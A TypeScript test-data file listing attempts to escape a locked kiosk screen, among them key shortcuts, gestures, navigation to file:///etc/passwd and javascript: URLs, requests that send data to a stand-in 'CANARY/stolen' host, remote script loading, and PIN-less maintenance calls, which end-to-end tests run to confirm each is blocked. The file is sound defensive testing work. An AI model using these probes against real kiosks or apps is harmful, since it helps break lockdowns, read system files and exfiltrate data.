/**
 * What somebody before a locked screen may try in order to get out of it, as data: the end-to-end test runs it against
 * the pages in the browser host, the smoke test against the apps in Electron, where there is one.
 */
export interface BreakOut {
  readonly name: string
  readonly kind: 'key' | 'gesture' | 'url' | 'drag' | 'dialog' | 'window' | 'network' | 'inject' | 'device'
  /** `electron`: only there does it mean something. */
  readonly only?: 'electron' | 'browser'
  /** On these surfaces it is allowed: a desk may copy. */
  readonly notOn?: readonly ('kiosk' | 'board' | 'desk')[]
  readonly does: BreakOutAction
}

export type BreakOutAction =
  /** Pressed as Playwright writes keys. It must not reach the browser: the page, or what is below it, takes it. */
  | { readonly press: string }
  /** Run in the page; CANARY stands for the address of a server that must not be reached. Gives true when it got out. */
  | { readonly run: string }
  /** Dispatched on the page's body: `new Event(name, …)`; held when its default was prevented. */
  | { readonly event: string; readonly init?: string }
  /** Touches of the screen: fingers on it, from and to, as parts of the screen. */
  | {
      readonly touch: readonly (readonly [x: number, y: number])[]
      readonly to: readonly (readonly [number, number])[]
    }
  | { readonly wheel: number; readonly withKey?: string }
  | { readonly click: 'right' | 'middle' | 'double' }

const key = (press: string, notOn?: BreakOut['notOn']): BreakOut => ({
  name: `key ${press}`,
  kind: 'key',
  does: { press },
  ...(notOn === undefined ? {} : { notOn }),
})
const run = (kind: BreakOut['kind'], name: string, code: string, only?: BreakOut['only']): BreakOut => ({
  name,
  kind,
  does: { run: code },
  ...(only === undefined ? {} : { only }),
})
const desk: BreakOut['notOn'] = ['desk']

const keys: readonly BreakOut[] = [
  ...['F1', 'F3', 'F5', 'F7', 'F10', 'F11', 'F12', 'Control+F5', 'Shift+F5', 'Shift+F10', 'ContextMenu'].map((one) =>
    key(one),
  ),
  ...['r', 'Shift+R', 'Shift+I', 'Shift+J', 'Shift+C', 'u', 'p', 'Shift+P', 'f', 'g', 's', 'o', 'n', 'Shift+N'].map(
    (one) => key(`Control+${one}`),
  ),
  ...['t', 'Shift+T', 'w', 'Shift+W', 'q', 'l', 'k', 'd', 'h', 'j', 'e', 'Tab', 'PageDown', '1'].map((one) =>
    key(`Control+${one}`),
  ),
  ...['=', '-', '0', 'NumpadAdd'].map((one) => key(`Control+${one}`)),
  ...['Alt+ArrowLeft', 'Alt+ArrowRight', 'Alt+Home', 'Alt+d', 'Alt+f', 'Alt+Enter', 'Meta+d', 'Meta+r'].map((one) =>
    key(one),
  ),
  key('Alt+F4', desk),
  ...['Control+c', 'Control+v', 'Control+a'].map((one) => key(one, desk)),
]

const gestures: readonly BreakOut[] = [
  {
    name: 'long press',
    kind: 'gesture',
    notOn: desk,
    does: { event: 'contextmenu', init: '{bubbles:true,cancelable:true}' },
  },
  { name: 'right click', kind: 'gesture', notOn: desk, does: { click: 'right' } },
  { name: 'middle click', kind: 'gesture', notOn: desk, does: { click: 'middle' } },
  { name: 'double click selects nothing', kind: 'gesture', notOn: desk, does: { click: 'double' } },
  {
    name: 'pinch out',
    kind: 'gesture',
    notOn: desk,
    does: {
      touch: [
        [0.45, 0.3],
        [0.55, 0.3],
      ],
      to: [
        [0.1, 0.3],
        [0.9, 0.3],
      ],
    },
  },
  { name: 'swipe from the left edge', kind: 'gesture', notOn: desk, does: { touch: [[0.001, 0.3]], to: [[0.8, 0.3]] } },
  {
    name: 'swipe from the right edge',
    kind: 'gesture',
    notOn: desk,
    does: { touch: [[0.999, 0.3]], to: [[0.2, 0.3]] },
  },
  { name: 'pull down to reload', kind: 'gesture', notOn: desk, does: { touch: [[0.5, 0.01]], to: [[0.5, 0.9]] } },
  { name: 'wheel with Ctrl zooms', kind: 'gesture', notOn: desk, does: { wheel: -600, withKey: 'Control' } },
  {
    name: 'back button of a mouse',
    kind: 'gesture',
    notOn: desk,
    does: { event: 'mouseup', init: '{bubbles:true,cancelable:true,button:3}' },
  },
  {
    name: 'forward button of a mouse',
    kind: 'gesture',
    notOn: desk,
    does: { event: 'mouseup', init: '{bubbles:true,cancelable:true,button:4}' },
  },
  { name: 'copy', kind: 'gesture', notOn: desk, does: { event: 'copy', init: '{bubbles:true,cancelable:true}' } },
  { name: 'paste', kind: 'gesture', notOn: desk, does: { event: 'paste', init: '{bubbles:true,cancelable:true}' } },
]

const go = (name: string, url: string): BreakOut => run('url', name, `location.href = ${JSON.stringify(url)}; false`)
const urls: readonly BreakOut[] = [
  go('another site', 'CANARY/away'),
  go('a file', 'file:///etc/passwd'),
  go('a script address', 'javascript:void(document.body.replaceChildren())'),
  go('a data page', 'data:text/html,<h1>out</h1>'),
  go('the settings of the browser', 'chrome://settings'),
  go('its developer tools', 'devtools://devtools/bundled/inspector.html'),
  go('an empty page', 'about:blank'),
  go('a mail program', 'mailto:nobody@example.org'),
  go('another app', 'app://elsewhere/'),
  run('url', 'a replaced address', `location.replace('CANARY/away'); false`),
  run(
    'url',
    'a page made of a blob',
    `location.href = URL.createObjectURL(new Blob(['<h1>out'], {type:'text/html'})); false`,
  ),
  run(
    'url',
    'a link in the page',
    `const a = document.createElement('a'); a.href = 'CANARY/away'; document.body.append(a); a.click(); a.remove(); false`,
  ),
  run(
    'url',
    'a link to a new window',
    `const a = document.createElement('a'); a.href = 'CANARY/away'; a.target = '_blank'; document.body.append(a); a.click(); a.remove(); false`,
  ),
  run(
    'url',
    'a download',
    `const a = document.createElement('a'); a.href = 'data:application/octet-stream,x'; a.download = 'x.exe'; document.body.append(a); a.click(); a.remove(); false`,
  ),
  run(
    'url',
    'a form',
    `const f = document.createElement('form'); f.action = 'CANARY/away'; f.method = 'post'; document.body.append(f); f.requestSubmit(); f.remove(); false`,
  ),
  run(
    'url',
    'a form sent without asking',
    `const f = document.createElement('form'); f.action = 'CANARY/away'; document.body.append(f); f.submit(); f.remove(); false`,
  ),
  run(
    'url',
    'a page that reloads itself',
    `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=CANARY/away'; document.head.append(m); m.remove(); false`,
  ),
]

const windows: readonly BreakOut[] = [
  run('window', 'a new window', `window.open('CANARY/away') !== null`),
  run('window', 'an empty window', `window.open('about:blank', '_blank', 'popup') !== null`),
  run('window', 'its own window closed', `window.close(); window.closed`),
  run('window', 'a window moved away', `window.moveTo(5000, 5000); window.resizeTo(10, 10); false`),
  run('window', 'a page that opened it', `window.opener !== null`),
]

const drags: readonly BreakOut[] = ['dragstart', 'dragover', 'drop'].map((event) => ({
  name: `drag: ${event}`,
  kind: 'drag',
  does: { event, init: '{bubbles:true,cancelable:true}' },
}))

const dialogs: readonly BreakOut[] = [
  run('dialog', 'an alert', `alert('x'); false`),
  run('dialog', 'a question', `confirm('x') === true`),
  run('dialog', 'an input', `prompt('x') !== null`),
  run('dialog', 'the printer’s dialog', `print(); false`),
  run(
    'dialog',
    'a file chooser',
    `const i = document.createElement('input'); i.type = 'file'; document.body.append(i); i.click(); i.remove(); false`,
  ),
  run(
    'dialog',
    'a file chooser of the file system',
    `window.showOpenFilePicker === undefined ? false : showOpenFilePicker().then(() => true, () => false)`,
  ),
  run(
    'dialog',
    'a question before leaving',
    `window.addEventListener('beforeunload', (event) => event.preventDefault(), {once: true}); false`,
  ),
]

const network: readonly BreakOut[] = [
  run(
    'network',
    'a request to another server',
    `fetch('CANARY/stolen', {mode: 'no-cors'}).then(() => true, () => false)`,
  ),
  run('network', 'a beacon', `navigator.sendBeacon('CANARY/stolen', 'x'); false`),
  run(
    'network',
    'a socket',
    `new Promise((done) => { try { const s = new WebSocket('CANARY/stolen'.replace('http', 'ws')); s.onopen = () => done(true); s.onerror = () => done(false) } catch { done(false) } })`,
  ),
  run(
    'network',
    'an event stream',
    `new Promise((done) => { const s = new EventSource('CANARY/stolen'); s.onopen = () => done(true); s.onerror = () => { s.close(); done(false) } })`,
  ),
  run(
    'network',
    'an old request',
    `new Promise((done) => { const x = new XMLHttpRequest(); x.onload = () => done(true); x.onerror = () => done(false); x.open('GET', 'CANARY/stolen'); x.send() })`,
  ),
  run(
    'network',
    'a picture',
    `new Promise((done) => { const i = new Image(); i.onload = () => done(true); i.onerror = () => done(false); i.src = 'CANARY/stolen.png' })`,
  ),
  run(
    'network',
    'a worker',
    `new Promise((done) => { try { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => done(true); w.onerror = () => done(false) } catch { done(false) } })`,
  ),
  run(
    'network',
    'a service worker',
    `navigator.serviceWorker === undefined ? false : navigator.serviceWorker.register('./sw.js').then(() => true, () => false)`,
  ),
]

const inject: readonly BreakOut[] = [
  run(
    'inject',
    'a script in the page',
    `window.__out = false; const s = document.createElement('script'); s.textContent = 'window.__out = true'; document.body.append(s); s.remove(); window.__out`,
  ),
  run(
    'inject',
    'a script from elsewhere',
    `new Promise((done) => { const s = document.createElement('script'); s.src = 'CANARY/x.js'; s.onload = () => done(true); s.onerror = () => done(false); document.body.append(s) })`,
  ),
  run(
    'inject',
    'a handler in an attribute',
    `window.__out = false; const d = document.createElement('div'); d.setAttribute('onclick', 'window.__out = true'); document.body.append(d); d.click(); d.remove(); window.__out`,
  ),
  run(
    'inject',
    'a script made of text',
    `(() => { const s = document.createElement('script'); s.src = 'data:text/javascript,window.__out=1'; window.__out = 0; return new Promise((done) => { s.onload = () => done(true); s.onerror = () => done(window.__out === 1); document.body.append(s) }) })()`,
  ),
  run(
    'inject',
    'a timer with text',
    `new Promise((done) => { window.__out = false; try { setTimeout('window.__out = true', 0) } catch {} setTimeout(() => done(window.__out), 50) })`,
  ),
  run(
    'inject',
    'a frame with another site',
    `new Promise((done) => { const f = document.createElement('iframe'); f.src = 'CANARY/frame'; document.body.append(f); setTimeout(() => { let out = false; try { out = f.contentDocument !== null && f.contentDocument.body.textContent !== '' } catch {} f.remove(); done(out) }, 200) })`,
  ),
  run(
    'inject',
    'a frame with the app itself',
    `new Promise((done) => { const f = document.createElement('iframe'); f.src = location.href; document.body.append(f); setTimeout(() => { let out = false; try { out = (f.contentDocument?.body?.children.length ?? 0) > 0 } catch {} f.remove(); done(out) }, 200) })`,
  ),
  run(
    'inject',
    'a webview',
    `const w = document.createElement('webview'); w.setAttribute('src', 'CANARY/frame'); document.body.append(w); const out = typeof w.loadURL === 'function'; w.remove(); out`,
  ),
  run(
    'inject',
    'an object',
    `new Promise((done) => { const o = document.createElement('object'); o.data = 'CANARY/frame'; o.onload = () => done(true); o.onerror = () => done(false); document.body.append(o); setTimeout(() => { o.remove(); done(false) }, 200) })`,
  ),
  run(
    'inject',
    'a style from elsewhere',
    `new Promise((done) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'CANARY/x.css'; l.onload = () => done(true); l.onerror = () => done(false); document.head.append(l) })`,
  ),
  run(
    'inject',
    'a new base of all addresses',
    `const b = document.createElement('base'); b.href = 'CANARY/'; document.head.append(b); const out = document.baseURI.startsWith('CANARY'); b.remove(); out`,
  ),
]

const ask = (name: string, code: string): BreakOut =>
  run(
    'device',
    name,
    `window.device === undefined ? false : (async () => { try { ${code}; return true } catch { return false } })()`,
    'electron',
  )
const devices: readonly BreakOut[] = [
  run(
    'device',
    'Node in the page',
    `typeof require !== 'undefined' || typeof process !== 'undefined' || typeof module !== 'undefined'`,
  ),
  run(
    'device',
    'Electron in the page',
    `typeof window.ipcRenderer !== 'undefined' || typeof window.electron !== 'undefined'`,
  ),
  run(
    'device',
    'the camera',
    `navigator.mediaDevices === undefined ? false : navigator.mediaDevices.getUserMedia({video: true}).then(() => true, () => false)`,
  ),
  run(
    'device',
    'the place of the computer',
    `new Promise((done) => navigator.geolocation === undefined ? done(false) : navigator.geolocation.getCurrentPosition(() => done(true), () => done(false), {timeout: 500}))`,
  ),
  run('device', 'notifications', `typeof Notification === 'undefined' ? false : Notification.permission === 'granted'`),
  run(
    'device',
    'the clipboard',
    `navigator.clipboard === undefined ? false : navigator.clipboard.readText().then(() => true, () => false)`,
  ),
  run(
    'device',
    'USB',
    `navigator.usb === undefined ? false : navigator.usb.requestDevice({filters: []}).then(() => true, () => false)`,
  ),
  run(
    'device',
    'a serial port',
    `navigator.serial === undefined ? false : navigator.serial.requestPort().then(() => true, () => false)`,
  ),
  run(
    'device',
    'pairing with a made-up code',
    `fetch('/host/pair', {method: 'POST', headers: {'content-type': 'application/json'}, body: '{"code":"AAAA"}'}).then((answer) => answer.ok)`,
    'browser',
  ),
  ask('the settings, without a PIN', `await device.maintenance.read()`),
  ask('new settings, without a PIN', `await device.maintenance.save({phones: []})`),
  ask('settings that do not exist', `await device.maintenance.save({kiosk: false})`),
  ask('the log, without a PIN', `await device.maintenance.log()`),
  ask('the desktop, without a PIN', `await device.maintenance.leave('desktop')`),
  ask('another PIN, without a PIN', `await device.maintenance.setPin('0000')`),
  ask('a bridge of its own', `device.hubUrl = () => 'x'; if ((await device.hubUrl()) !== 'x') throw 0`),
]

export const breakOuts: readonly BreakOut[] = [
  ...keys,
  ...gestures,
  ...urls,
  ...windows,
  ...drags,
  ...dialogs,
  ...network,
  ...inject,
  ...devices,
]
